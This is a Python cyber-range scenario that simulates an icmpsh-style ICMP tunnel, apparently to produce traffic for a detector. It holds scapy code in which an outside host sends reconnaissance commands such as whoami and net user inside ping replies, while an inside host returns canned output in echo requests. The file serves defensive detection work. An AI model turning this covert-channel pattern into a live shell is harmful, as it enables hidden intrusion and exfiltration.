"""A shell by ping, as icmpsh does it: the inside host asks, the replies bring commands."""

from lab.range import Range
from lab.scenario import Scenario

MASTER = """
commands = [b"whoami", b"ipconfig /all", b"net user", b"dir C:", b"type notes.txt", b"net view"]
count = [0]
def answer(packet):
    if packet[ICMP].type != 8:
        return
    text = commands[count[0] // 3 % len(commands)] if count[0] % 3 == 0 else b""
    count[0] += 1
    echo = ICMP(type=0, id=packet[ICMP].id, seq=packet[ICMP].seq)
    send(IP(src=packet[IP].dst, dst=packet[IP].src) / echo / Raw(text))
sniff(filter="icmp[0] == 8", prn=answer, timeout=float(sys.argv[1]))
"""
SLAVE = """
for number in range(48):
    said = b"" if number % 3 != 1 else b"output of command %d: host pc-%d" % (number, number * 7919)
    send(IP(dst=sys.argv[1]) / ICMP(type=8, id=1, seq=number) / Raw(said))
    time.sleep(0.2)
"""


def run(net: Range) -> None:
    slave, master = net.inside("attacker"), net.outside("www")
    master.sysctl(net__ipv4__icmp_echo_ignore_all="1")
    net.everyday()
    with net.attack(
        "icmp-tunnel",
        by=slave,
        victims=[],
        frames=f"icmp and dst host {master.ip}",
        responses=f"icmp and src host {master.ip} and dst host {slave.ip}",
    ):
        head = "from scapy.all import *\nconf.verb = 0\nconf.iface = 'eth0'\n"
        master.start("/usr/bin/python3", "-c", head + MASTER, "16")
        net.quiet(2)
        net.scapy(slave, SLAVE, master.ip)
    net.quiet(2)


SCENARIO = Scenario(
    name="icmp-tunnel-shell",
    about="An inside host asks a machine outside by ping for commands and sends back what they gave.",
    detectors=("icmp-tunnel",),
    run=run,
)
